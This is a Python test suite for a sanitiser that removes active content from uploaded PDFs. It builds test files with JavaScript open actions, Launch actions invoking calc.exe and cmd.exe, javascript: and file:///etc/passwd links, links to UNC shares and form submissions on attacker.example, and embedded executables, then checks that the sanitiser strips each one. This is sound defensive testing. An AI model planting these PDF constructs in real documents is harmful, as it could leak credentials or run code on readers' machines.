"""What is taken out of an uploaded PDF, and what stays: objects at their places, whatever words the file holds."""

import io
import zlib
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from registrations.documents import pdf_cleaner
from tests.documents.pdf_files import PDFS, Change, made, put, script

SHARE = r"\\attacker.example\share\a.pdf"


def outcome(content: bytes) -> dict[str, Any]:
    """What the cleaner answers. Its result holds nothing more to take out."""
    answer, changed = pdf_cleaner.cleaned(content)
    if changed:
        assert pdf_cleaner.cleaned(changed) == ({"removed": [], "repaired": False}, b"")
    return answer


def taken_out(content: bytes) -> list[str]:
    found: list[str] = outcome(content)["removed"]
    return found


def action(kind: str, **fields: Any) -> Any:
    return Dictionary(S=Name("/" + kind), **fields)


def link(address: str) -> Change:
    return put("link.A", action("URI", URI=String(address)))


def embed(name: str, relationship: Name | None = None, at: str = "root.AF") -> Change:
    """An embedded file without any /Type, in the list of attachments and at another place."""

    def change(pdf: pikepdf.Pdf) -> None:
        specification = Dictionary(UF=String(name), EF=Dictionary(F=pdf.make_stream(b"MZ")))
        if relationship is not None:
            specification.AFRelationship = relationship
        file = pdf.make_indirect(specification)
        names = Dictionary(Names=Array([String(name), file]))
        pdf.Root.Names = Dictionary(EmbeddedFiles=pdf.make_indirect(names))
        put(at, Array([file]))(pdf)

    return change


def annotate(subtype: str, **fields: Any) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 9, 9], **fields)
        pdf.pages[0].obj.Annots.append(pdf.make_indirect(annotation))

    return change


def sign(pdf: pikepdf.Pdf) -> None:
    signature = Dictionary(Type=Name.Sig, Contents=String("x"), ByteRange=[0, 1, 2, 3])
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, V=pdf.make_indirect(signature)))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


@pytest.mark.parametrize(
    ("file", "removed"),
    [
        ("img2pdf_36_screens", []),
        ("keywords_html_javascript", []),
        ("objstm_uncompressed", []),
        ("lead_newline", []),
        ("enc_owner_only_print_restricted", []),
        ("bypass_hex_masked", ["script"]),
        ("attach_no_type", ["attachment"]),
        ("xfa_script", ["form"]),
    ],
)
def test_files_that_were_judged_wrongly_before(file: str, removed: list[str]) -> None:
    assert taken_out((PDFS / f"{file}.pdf").read_bytes()) == removed


def test_36_screenshots_are_accepted() -> None:
    pixels = zlib.compress(b"\0" * (1920 * 1080 * 3), 1)

    def add(pdf: pikepdf.Pdf) -> None:
        size = {"Width": 1920, "Height": 1080, "BitsPerComponent": 8}
        for _ in range(36):
            image = pdf.make_stream(pixels, Subtype=Name.Image, ColorSpace=Name.DeviceRGB, **size)
            image.Filter = Name.FlateDecode
            pdf.add_blank_page().obj.Resources = Dictionary(XObject=Dictionary(I=image))

    assert taken_out(made(add)) == []


@pytest.mark.parametrize(
    "change",
    [
        link("https://example.org/?q=JavaScript"),
        link("http://example.org:8080/a.exe"),
        link("mailto:contact@example.org"),
        link("tel:+33123456789"),
        link("www.example.org/rapport"),
        put("link.A", action("GoTo", D=String("chapitre"))),
        put("link.A", action("Named", N=Name.NextPage)),
        put("root.OpenAction", action("GoTo", D=String("chapitre"))),
        put("root.URI", Dictionary(Base=String("https://example.org/"))),
        put("root.Keywords", String("HTML/JavaScript /Launch")),
        put("page.Resources", Dictionary(Font={"/JS": Dictionary(), "/Sound": Dictionary(), "/EF": Dictionary()})),
        put("root.StructTreeRoot", Dictionary(K=Dictionary(S=Name.Launch, A=Dictionary(O=Name.Layout)))),
        embed("rapport.tex", Name.Source),
        embed("mathml-1.xml", Name.Supplement),
        sign,
    ],
)
def test_what_is_harmless_stays(change: Change) -> None:
    assert pdf_cleaner.cleaned(made(change)) == ({"removed": [], "repaired": False}, b"")


@pytest.mark.parametrize(
    ("change", "kind"),
    [
        (put("root.OpenAction", script()), "script"),
        (put("page.AA", Dictionary(O=script())), "script"),
        (put("link.A", script()), "script"),
        (put("link.PA", script()), "script"),
        (put("root.AcroForm", Dictionary(Fields=[Dictionary(T=String("a"), AA=Dictionary(C=script()))])), "script"),
        (put("root.Outlines", Dictionary(First=Dictionary(Title=String("x"), A=script()))), "script"),
        (put("root.Names", Dictionary(JavaScript=Dictionary(Kids=[Dictionary(Names=["x", script()])]))), "script"),
        (put("link.A", action("GoTo", D=String("a"), Next=script())), "script"),
        (put("link.A", action("GoTo", D=String("a"), Next=[action("Hide"), script()])), "script"),
        (put("link.A", action("Rendition", JS=String("x"))), "script"),
        (put("link.A", action("Launch", F=String("calc.exe"))), "action"),
        (put("link.A", action("Launch", Win=Dictionary(F=String("cmd.exe"), P=String("/c x")))), "action"),
        (put("link.A", action("GoToR", F=String(SHARE), D=[0, Name.Fit])), "action"),
        (put("link.A", action("GoToE", F=String(SHARE), T=Dictionary())), "action"),
        (put("link.A", action("SubmitForm", F=String("https://attacker.example/"))), "action"),
        (put("link.A", action("ImportData", F=String("a.fdf"))), "action"),
        (put("link.A", action("Thread", F=String(SHARE))), "action"),
        (put("link.A", action("Named", N=Name.Print)), "action"),
        (put("link.A", action("Unheard")), "action"),
        (put("root.OpenAction", action("URI", URI=String("https://attacker.example/"))), "link"),
        (link("javascript:alert(1)"), "link"),
        (link(" java\nscript:alert(1)"), "link"),
        (link("file:///etc/passwd"), "link"),
        (link(SHARE), "link"),
        (link("\x01//attacker.example/share"), "link"),
        (put("root.URI", Dictionary(Base=String("file://attacker.example/"))), "link"),
        (embed("rapport.exe"), "attachment"),
        (embed("rapport.exe", Name.Source), "attachment"),
        (embed("rapport.txt"), "attachment"),
        (embed("rapport.exe", at="page.PieceInfo"), "attachment"),
        (annotate("FileAttachment"), "attachment"),
        (annotate("RichMedia", RichMediaContent=Dictionary()), "media"),
        (annotate("3D", **{"3DD": Dictionary(OnInstantiate=String("x"))}), "media"),
        (annotate("Screen", A=action("Rendition")), "media"),
        (annotate("Sound", Sound=Dictionary()), "media"),
        (put("root.Names", Dictionary(Renditions=Dictionary())), "media"),
        (put("root.AcroForm", Dictionary(XFA=["template", String("<script/>")])), "form"),
    ],
)
def test_what_can_act_is_taken_out_and_named(change: Change, kind: str) -> None:
    assert taken_out(made(change)) == [kind]
    assert taken_out(made(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)) == [kind]


def test_a_page_whose_content_is_a_file_elsewhere_fetches_nothing() -> None:
    def refer(pdf: pikepdf.Pdf) -> None:
        form = pdf.make_stream(b"", Subtype=Name.Form, BBox=[0, 0, 9, 9], Ref=Dictionary(F=String(SHARE), Page=0))
        image = pdf.make_stream(b"", Subtype=Name.Image, F=Dictionary(F=String(SHARE)))
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=form, B=image))

    assert taken_out(made(refer)) == ["action"]


def test_each_kind_in_a_list_is_named() -> None:
    launch = action("Launch", F=String("calc.exe"))
    assert taken_out(made(put("page.AA", Dictionary(O=script(), Vxlx=launch)))) == ["action", "script"]
    assert taken_out(made(put("link.A", action("GoTo", Next=[script(), launch])))) == ["action", "script"]


def test_an_escaped_name_is_found() -> None:
    content = made(put("root.OpenAction", script())).replace(b"/JavaScript", b"/J#61vaScrip#74")
    assert taken_out(content) == ["script"]


@pytest.mark.parametrize(
    ("place", "name", "removed"),
    [
        ("page.Fxanxais", Name.Vxlx, []),
        ("page.Subtype", Name.Vxlx, []),
        ("link.A", Dictionary(S=Name.Vxlx), ["action"]),
        ("page.AA", Dictionary(Vxlx=script()), ["script"]),
        ("link.A", Dictionary(S=Name.Named, N=Name.Vxlx), ["action"]),
        ("link.A", Dictionary(S=Name.URI, URI=Name.Vxlx), ["link"]),
    ],
)
def test_names_in_latin_1_are_read(place: str, name: Any, removed: list[str]) -> None:
    content = made(put(place, name)).replace(b"Fxanxais", b"Fran\xe7ais").replace(b"Vxlx", b"V\xe9l\xe9")
    assert outcome(content) == {"removed": removed, "repaired": False}


def test_a_script_whose_key_stands_twice_is_gone() -> None:
    """Viewers differ in which of the two they run."""
    content = made(put("root.OpenAction", script()))
    at = content.index(b"/OpenAction")
    doubled = content[:at] + content[at:].replace(b"/Pages", b"/OpenAction << /S /GoTo /D (a) >> /Pages", 1)
    answer, changed = pdf_cleaner.cleaned(doubled)
    assert answer == {"removed": [], "repaired": True}
    assert b"app.alert" not in changed


def test_a_file_beside_known_keys_of_its_list_is_found() -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        files = Dictionary(F=pdf.make_stream(b"MZ"), Other=1)
        pdf.Root.AF = Array([Dictionary(F=String("a.exe"), EF=files)])

    assert taken_out(made(change)) == ["attachment"]


def test_the_rest_of_the_document_is_kept() -> None:
    content = made(link("https://example.org/"), put("root.OpenAction", script()), embed("a.exe"))
    answer, changed = pdf_cleaner.cleaned(content)
    assert answer == {"removed": ["attachment", "script"], "repaired": False}
    with pikepdf.open(io.BytesIO(changed)) as pdf:
        page: Any = pdf.pages[0].obj
        assert str(page.Annots[0].A.URI) == "https://example.org/"
        assert b"Un rapport." in page.Contents.read_bytes()
        assert "/EmbeddedFiles" not in pdf.Root.Names
    assert b"app.alert" not in changed


def test_a_signed_file_that_would_be_changed_is_refused() -> None:
    assert outcome(made(sign, link("javascript:x"))) == {"refused": "signed"}


def test_a_form_that_a_program_draws_is_refused() -> None:
    assert outcome(made(put("root.NeedsRendering", True))) == {"refused": "form"}


def test_restrictions_on_printing_stay_when_a_script_is_taken_out() -> None:
    restricted = pikepdf.Encryption(owner="x", allow=pikepdf.Permissions(print_highres=False, extract=False))
    answer, changed = pdf_cleaner.cleaned(made(put("root.OpenAction", script()), encryption=restricted))
    assert answer["removed"] == ["script"]
    with pikepdf.open(io.BytesIO(changed)) as pdf:
        assert (pdf.allow.print_highres, pdf.allow.extract, pdf.allow.print_lowres) == (False, False, True)


@pytest.mark.parametrize("before", [b"", b"\r\n", b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n"])
@pytest.mark.parametrize("after", [b"", b"\0" * 512])
def test_bytes_around_the_file_are_accepted(before: bytes, after: bytes) -> None:
    assert outcome(before + made() + after) == {"removed": [], "repaired": False}


def test_a_table_of_objects_at_the_wrong_place_is_repaired_and_said() -> None:
    content = made()
    at = content.rindex(b"startxref")
    assert outcome(content[:at] + b"startxref\n7\n%%EOF\n") == {"removed": [], "repaired": True}
    assert outcome(content + b"\0" * 5000) == {"removed": [], "repaired": True}


def test_a_script_in_a_damaged_file_is_found() -> None:
    content = made(put("root.OpenAction", script()))
    at = content.rindex(b"startxref")
    assert outcome(content[:at] + b"startxref\n7\n%%EOF\n") == {"removed": ["script"], "repaired": True}


@pytest.mark.parametrize("share", [0.9, 0.6])
def test_a_file_cut_off_is_refused(share: float) -> None:
    content = made(*[lambda pdf: pdf.add_blank_page()] * 20)
    assert outcome(content[: int(len(content) * share)]) == {"refused": "damaged"}
